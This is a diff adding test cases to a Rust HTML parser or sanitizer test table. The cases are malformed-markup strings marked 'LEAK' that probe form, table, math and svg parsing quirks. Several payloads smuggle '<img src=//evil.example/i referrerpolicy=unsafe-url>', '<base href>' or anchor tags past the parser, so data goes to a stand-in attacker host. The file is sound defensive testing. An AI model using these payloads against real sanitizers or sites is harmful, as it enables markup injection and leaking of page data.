@@ -743,6 +743,12 @@ fn hard_cases_match_the_oracle() {
             "<form><li></form><math></li><style><img src=//evil.example/i referrerpolicy=unsafe-url>"),
         ("LEAK: in template contents a <form> in a table insertion mode is dropped, also after an element foster-parented out of the table: </form> from math closes nothing (a declarative shadow root makes it live)",
             "<div><template shadowrootmode=open><table><mi><form><math></form><style><img src=//evil.example/i referrerpolicy=unsafe-url>"),
+        ("LEAK: in a table insertion mode a <form> leaves the stack at once, also in an integration point of math opened in the table: </mi> then closes the mi",
+            "<table><math><mi><form></mi><style><img src=//evil.example/i referrerpolicy=unsafe-url>"),
+        ("... and so does a form in an element foster-parented out of the table: </mi> closes the math around it",
+            "<table><mi><area href=/x><form><math></mi><base href=/x>"),
+        ("... and in an svg integration point the CDATA after such a form is a section",
+            "<table><svg><foreignObject><form><![CDATA[<style><a href=/in-style></style>"),
         ("an svg/math form with the id comes first in tree order: the HTML form in a table with the same id ties no input",
             "<math><style><a href=/in-style></style><form id=f1><table><form id=f1 action=/x>"),
     ];
